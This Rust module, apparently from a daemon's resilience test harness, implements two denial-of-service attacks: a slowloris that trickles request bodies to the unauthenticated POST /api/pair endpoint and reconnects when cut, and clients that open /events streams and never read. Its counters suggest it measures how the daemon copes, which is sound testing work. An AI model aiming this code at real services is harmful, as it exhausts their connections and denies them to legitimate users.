//! The attacks: slow-body connections (a slowloris on the one unauthenticated endpoint
//! that reads a body, `POST /api/pair`) and event-stream clients that never read.

use std::io::Write;
use std::net::TcpStream;
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::Arc;
use std::time::Duration;
use tokio::io::AsyncWriteExt;
use tokio::sync::watch;

/// What the slow-body attack saw.
#[derive(Debug, Default)]
pub struct Tally {
    /// Connections made.
    pub connects: AtomicU64,
    /// Connections open now (head sent, not yet seen cut).
    pub open: AtomicU64,
    /// Connections the daemon cut (a write failed).
    pub cut: AtomicU64,
    /// Connects that failed.
    pub refused: AtomicU64,
}

/// `clients` connections to `addr`, each sending a `POST /api/pair` head announcing a
/// 4,000-octet body and then one body octet every `every`; a connection the daemon cuts
/// is noticed at its next write and made again at once. Runs on its own thread (a tokio
/// runtime) until the returned sender is dropped or sends `true`.
pub fn slow_bodies(
    addr: &str,
    clients: usize,
    every: Duration,
) -> (watch::Sender<bool>, Arc<Tally>, std::thread::JoinHandle<()>) {
    let (stop_tx, stop) = watch::channel(false);
    let tally = Arc::new(Tally::default());
    let (addr, t) = (addr.to_owned(), tally.clone());
    let thread = std::thread::spawn(move || {
        let rt = tokio::runtime::Builder::new_current_thread()
            .enable_all()
            .build()
            .expect("a runtime for the attack");
        rt.block_on(async move {
            let tasks: Vec<_> = (0..clients)
                .map(|i| {
                    let (addr, t, stop) = (addr.clone(), t.clone(), stop.clone());
                    // Spread the first octets over the period, as independent clients would.
                    let offset = every.mul_f64(i as f64 / clients as f64);
                    tokio::spawn(slow_body(addr, t, stop, every, offset))
                })
                .collect();
            for task in tasks {
                let _ = task.await;
            }
        });
    });
    (stop_tx, tally, thread)
}

async fn slow_body(
    addr: String,
    tally: Arc<Tally>,
    mut stop: watch::Receiver<bool>,
    every: Duration,
    offset: Duration,
) {
    let head = format!(
        "POST /api/pair HTTP/1.1\r\nHost: {addr}\r\nContent-Type: application/json\r\nContent-Length: 4000\r\n\r\n{{"
    );
    let mut first = true;
    while !*stop.borrow() {
        let mut s = match tokio::net::TcpStream::connect(&addr).await {
            Ok(s) => s,
            Err(_) => {
                tally.refused.fetch_add(1, Ordering::Relaxed);
                tokio::time::sleep(Duration::from_millis(100)).await;
                continue;
            }
        };
        tally.connects.fetch_add(1, Ordering::Relaxed);
        if s.write_all(head.as_bytes()).await.is_err() {
            tally.cut.fetch_add(1, Ordering::Relaxed);
            continue;
        }
        tally.open.fetch_add(1, Ordering::Relaxed);
        let mut wait = if first { offset } else { every };
        first = false;
        loop {
            tokio::select! {
                _ = tokio::time::sleep(wait) => {}
                _ = stop.changed() => return,
            }
            wait = every;
            if s.write_all(b" ").await.is_err() {
                tally.cut.fetch_add(1, Ordering::Relaxed);
                break;
            }
        }
        tally.open.fetch_sub(1, Ordering::Relaxed);
    }
}

/// `n` clients that ask for `/events` and then never read.
pub fn hogs(addr: &str, n: usize) -> Vec<TcpStream> {
    (0..n)
        .map(|_| {
            let mut s = TcpStream::connect(addr).expect("connect");
            write!(
                s,
                "GET /events HTTP/1.1\r\nHost: {addr}\r\nAccept: text/event-stream\r\n\r\n"
            )
            .expect("request");
            s
        })
        .collect()
}
